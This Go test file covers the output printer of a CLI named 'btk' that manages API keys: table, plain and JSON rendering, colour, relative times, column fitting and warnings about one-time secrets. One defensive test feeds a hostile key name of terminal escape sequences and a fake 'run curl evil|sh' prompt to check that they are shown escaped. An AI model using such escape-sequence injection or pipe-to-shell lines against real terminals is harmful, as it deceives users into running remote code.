package main

import (
	"bytes"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/btk-project/btk/internal/client"
)

var testNow = time.Date(2026, 11, 21, 22, 10, 0, 0, time.UTC)

func testKey() client.ApiKey {
	used := testNow.Add(-3 * time.Minute)
	n := 60
	return client.ApiKey{
		Id: keyID, Name: "ci", DisplayPrefix: "btk_fc25ecba", Hint: "HCe4", Status: client.ApiKeyStatusActive,
		RateLimitPerMinute: &n, Scopes: []string{}, CreatedAt: testNow.Add(-48 * time.Hour), LastUsedAt: &used,
	}
}

// render renders a key list, a key block and a new key with a printer on
// streams posing as tty, in format.
func render(t *testing.T, tty bool, format string) (stdout, stderr string) {
	t.Helper()
	s, out, errOut := testStreams(tty, "")
	p := newPrinter(s, format, func() time.Time { return testNow })
	k := testKey()
	p.apiKeyTable([]client.ApiKey{k})
	if err := p.newKey(client.CreateApiKeyCreateApiKeyCreateApiKeyPayload{ApiKey: k, PlaintextKey: plaintext}, k, plaintext, "Created key"); err != nil {
		t.Fatal(err)
	}
	return out.String(), errOut.String()
}

func TestRenderTerminal(t *testing.T) {
	isolate(t)
	out, errOut := render(t, fakeTerminal, formatTable)
	if !strings.Contains(out, "\x1b[") {
		t.Errorf("no colour or style on a terminal:\n%s", out)
	}
	for _, want := range []string{"NAME", "btk_fc25ecba_…HCe4", "3 minutes ago", "2 days ago", plaintext, "cannot be shown again"} {
		if !strings.Contains(out, want) {
			t.Errorf("stdout lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(errOut, "cannot be shown again") {
		t.Errorf("on a terminal the warning belongs on stdout, got stderr %q", errOut)
	}
}

func TestRenderNoColor(t *testing.T) {
	isolate(t)
	t.Setenv("NO_COLOR", "1")
	out, _ := render(t, fakeTerminal, formatTable)
	if strings.Contains(out, "\x1b") {
		t.Errorf("escape code with NO_COLOR:\n%q", out)
	}
	if !strings.Contains(out, "3 minutes ago") {
		t.Errorf("NO_COLOR should keep the terminal's relative times:\n%s", out)
	}
}

func TestRenderPipe(t *testing.T) {
	isolate(t)
	out, errOut := render(t, pipe, formatTable)
	if strings.Contains(out+errOut, "\x1b") {
		t.Errorf("escape code off a terminal:\n%q\n%q", out, errOut)
	}
	for _, want := range []string{"NAME", "2026-11-21T22:07:00Z", "\n" + plaintext + "\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("stdout lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "ago") {
		t.Errorf("relative time off a terminal:\n%s", out)
	}
	if strings.Contains(out, "cannot be shown again") || !strings.Contains(errOut, "cannot be shown again") {
		t.Errorf("off a terminal the warning belongs on stderr; stdout:\n%s\nstderr:\n%s", out, errOut)
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasSuffix(line, " ") {
			t.Errorf("trailing blanks in %q", line)
		}
	}
}

func TestRenderPlain(t *testing.T) {
	isolate(t)
	for _, tty := range []bool{pipe, fakeTerminal} {
		out, errOut := render(t, tty, formatPlain)
		want := keyID + "\tbtk_fc25ecba_…HCe4\tACTIVE"
		if !strings.Contains(out, "ci\t"+want) || !strings.HasSuffix(out, "\n"+plaintext+"\n") {
			t.Errorf("tty=%v: plain output:\n%s", tty, out)
		}
		if strings.Contains(out, "NAME") || strings.Contains(out+errOut, "\x1b") {
			t.Errorf("tty=%v: header or escape codes in plain output:\n%q", tty, out)
		}
	}
}

func TestRenderJSON(t *testing.T) {
	isolate(t)
	s, out, _ := testStreams(fakeTerminal, "")
	p := newPrinter(s, formatJSON, func() time.Time { return testNow })
	k := testKey()
	if err := p.newKey(client.CreateApiKeyCreateApiKeyCreateApiKeyPayload{ApiKey: k, PlaintextKey: plaintext}, k, plaintext, "Created"); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		ApiKey       map[string]any `json:"apiKey"`
		PlaintextKey string         `json:"plaintextKey"`
	}
	if err := json.Unmarshal(out.Bytes(), &doc); err != nil {
		t.Fatalf("not one JSON document: %v\n%s", err, out)
	}
	if doc.PlaintextKey != plaintext || doc.ApiKey["id"] != keyID || doc.ApiKey["displayPrefix"] != "btk_fc25ecba" ||
		doc.ApiKey["rateLimitPerMinute"] != 60.0 || doc.ApiKey["lastUsedAt"] != "2026-11-21T22:07:00Z" {
		t.Errorf("JSON does not use the schema's names and values:\n%s", out)
	}
	if strings.Contains(out.String(), "\x1b") {
		t.Errorf("escape codes in JSON")
	}
}

func TestRelativeTime(t *testing.T) {
	for _, tc := range []struct {
		d    time.Duration
		want string
	}{
		{10 * time.Second, "just now"},
		{-10 * time.Second, "in a few seconds"},
		{time.Minute, "1 minute ago"},
		{3*time.Minute + 30*time.Second, "3 minutes ago"},
		{5 * time.Hour, "5 hours ago"},
		{-90 * 24 * time.Hour, "in 90 days"},
		{-(90*24*time.Hour - time.Minute), "in 90 days"},
		{-24 * time.Hour, "in 1 day"},
		{-400 * 24 * time.Hour, "in 400 days"},
		{-800 * 24 * time.Hour, "in 2 years"},
		{89 * 24 * time.Hour, "2 months ago"},
		{800 * 24 * time.Hour, "2 years ago"},
	} {
		if got := relativeTime(testNow, testNow.Add(-tc.d)); got != tc.want {
			t.Errorf("relativeTime(now-%v) = %q, want %q", tc.d, got, tc.want)
		}
	}
}

// fitColumns cuts the widest columns first, with an ellipsis, until the
// table fits; a table that fits is left alone.
func TestFitColumns(t *testing.T) {
	headers := []string{"NAME", "ID", "STATUS"}
	rows := [][]string{{"a-rather-long-name", "6f1c8f5e-2b0e-4d8a-9a51-0c9a7c3e4b21", "ACTIVE"}}
	h, r := fitColumns(headers, rows, 200)
	if !reflect.DeepEqual(h, headers) || !reflect.DeepEqual(r, rows) {
		t.Fatalf("a table that fits was changed: %v %v", h, r)
	}
	_, r = fitColumns(headers, rows, 40)
	width := 2 * 2
	for _, cell := range r[0] {
		width += len([]rune(cell))
	}
	if width > 40 {
		t.Errorf("%v is %d wide, want at most 40", r[0], width)
	}
	if r[0][2] != "ACTIVE" || !strings.HasSuffix(r[0][1], "…") || !strings.HasSuffix(r[0][0], "…") {
		t.Errorf("want the two wide columns cut, STATUS kept: %q", r[0])
	}
	// Never below the minimum: too narrow a terminal gets a wider table.
	_, r = fitColumns(headers, rows, 5)
	if got := len([]rune(r[0][1])); got != minColumn {
		t.Errorf("ID cut to %d cells, want %d", got, minColumn)
	}
}

// On a terminal an expiry shows its date and the days to go, as
// `btk create --expires-in 90d` prints it; a past time stays relative, and
// piped output keeps RFC 3339.
func TestTimeShowsExpiryDate(t *testing.T) {
	t.Setenv("TZ", "UTC")
	s, _, _ := testStreams(fakeTerminal, "")
	p := newPrinter(s, formatTable, func() time.Time { return testNow })
	exp := testNow.Add(90 * 24 * time.Hour)
	want := exp.Local().Format("2006-01-02") + ", in 90 days"
	if got := p.Date(&exp, "never"); got != want {
		t.Errorf("expiry: %q, want %q", got, want)
	}
	if got := p.Time(&exp, "never"); got != "in 90 days" {
		t.Errorf("expiry in a table: %q", got)
	}
	used := testNow.Add(-3 * time.Minute)
	if got := p.Date(&used, "never"); got != "3 minutes ago" {
		t.Errorf("last used: %q", got)
	}
	s, _, _ = testStreams(pipe, "")
	p = newPrinter(s, formatTable, func() time.Time { return testNow })
	if got := p.Date(&exp, "never"); got != exp.Format(time.RFC3339) {
		t.Errorf("piped: %q", got)
	}
}

// What a hostile server at --server sends cannot drive the terminal: a key
// name or an error message with escape sequences is written escaped, on
// a terminal and in a pipe, while the printer's own colour stays.
func TestServerTextCannotDriveTheTerminal(t *testing.T) {
	isolate(t)
	const hostile = "ci\x1b]0;PWNED\x07\x1b[2J\r\nFAKE: run curl evil|sh\u202e"
	for _, tty := range []bool{fakeTerminal, false} {
		s, out, _ := testStreams(tty, "")
		p := newPrinter(s, formatTable, func() time.Time { return testNow })
		k := testKey()
		k.Name = hostile
		p.apiKeyTable([]client.ApiKey{k})
		p.Fields([]field{{"Name", hostile}})
		for _, bad := range []string{"\x1b]", "\x07", "\x1b[2J", "\r", "\u202e"} {
			if strings.Contains(out.String(), bad) {
				t.Errorf("tty %v: output holds %q:\n%q", tty, bad, out)
			}
		}
		if !strings.Contains(out.String(), `ci\x1b]0;PWNED\a\x1b[2J\r`) {
			t.Errorf("tty %v: the name is not shown escaped:\n%q", tty, out)
		}
		if tty && !strings.Contains(out.String(), "\x1b[") {
			t.Errorf("the printer's own colour went:\n%q", out)
		}
	}
	var stderr strings.Builder
	printError(&stderr, nil, &client.Error{Code: "NAME_TAKEN", Message: hostile})
	if got := stderr.String(); strings.ContainsAny(got, "\x1b\x07\r\u202e") || !strings.HasPrefix(got, `btk: ci\x1b]0;PWNED`) {
		t.Errorf("error: %q", got)
	}
}

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"plain text, café":          "plain text, café",
		"tab\tand\nnewline":         "tab\tand\nnewline",
		"\x1b[1;32mgreen\x1b[0m":    "\x1b[1;32mgreen\x1b[0m",
		"\x1b[2J":                   `\x1b[2J`,
		"\x1b]8;;http://x\x1b\\":    `\x1b]8;;http://x\x1b\`,
		"bell\x07 del\x7f c1\u009b": `bell\a del\x7f c1\u009b`,
		"bidi\u202egnp.exe":         `bidi\u202egnp.exe`,
		"\x1b[1mua\u2067x\x1b[0m":   "\x1b[1mua\\u2067x\x1b[0m",
		"zero\u200bwidth\u2028sep":  `zero\u200bwidth\u2028sep`,
		"bare c1 byte \x9b2J":       `bare c1 byte \x9b2J`,
		"replacement \ufffd kept":   "replacement \ufffd kept",
	} {
		if got := printable(in); got != want {
			t.Errorf("printable(%q) = %q, want %q", in, got, want)
		}
	}
}

// jsonArray writes, element by element, the bytes JSON writes for the whole
// slice: btk scan -o json streams what it finds in the same format.
func TestJSONArrayAsJSON(t *testing.T) {
	for _, items := range [][]scanFinding{
		{},
		{{Path: "a<b>&c.txt", Line: 1, Column: 2, DisplayPrefix: "btk_00000000", Hint: "AAAA"}},
		{{Path: "a", Line: 1}, {Path: "b", Status: "ACTIVE", Revoked: true}, {Path: "c"}},
	} {
		whole, _, _ := testStreams(pipe, "")
		p := newPrinter(whole, formatJSON, time.Now)
		if err := p.JSON(items); err != nil {
			t.Fatal(err)
		}
		parts, _, _ := testStreams(pipe, "")
		a := newPrinter(parts, formatJSON, time.Now).jsonArray()
		for _, it := range items {
			if err := a.add(it); err != nil {
				t.Fatal(err)
			}
		}
		if err := a.close(); err != nil {
			t.Fatal(err)
		}
		if got, want := parts.Out.(*bytes.Buffer).String(), whole.Out.(*bytes.Buffer).String(); got != want {
			t.Errorf("%d elements:\n%s\nwant:\n%s", len(items), got, want)
		}
	}
}

// A webhook's signing secret is warned about as a secret, a new key as a
// key, on a terminal and off one.
func TestSecretWarningNamesWhatItShows(t *testing.T) {
	loggedInTo(t, newFakeServer(t, map[string]string{
		"CreateWebhook": `{"data":{"createWebhook":{"webhook":{"id":"1","url":"https://hooks.example.com/btk","events":[],` +
			`"createdAt":"2026-11-21T22:00:00Z"},"secret":"whsec_c2VjcmV0"}}}`,
		"CreateApiKey": `{"data":{"createApiKey":{"apiKey":` + apiKeyJSON + `,"plaintextKey":"` + plaintext + `"}}}`,
		"TenantInfo":   `{"data":{"tenantInfo":` + tenantJSON + `}}`,
	}))
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"webhook", "add", "https://hooks.example.com/btk"}, "! Copy this secret now: it is shown only once"},
		{[]string{"create", "ci"}, "! Copy this key now: it is shown only once"},
	} {
		for _, tty := range []bool{pipe, fakeTerminal} {
			s, out, errOut := testStreams(tty, "")
			if code := btkRun(s, c.args...); code != exitOK || !strings.Contains(out.String()+errOut.String(), c.want) {
				t.Errorf("btk %s (terminal %v): exit %d\n%s\n%s\nwant %q", strings.Join(c.args, " "), tty, code, out, errOut, c.want)
			}
		}
	}
}
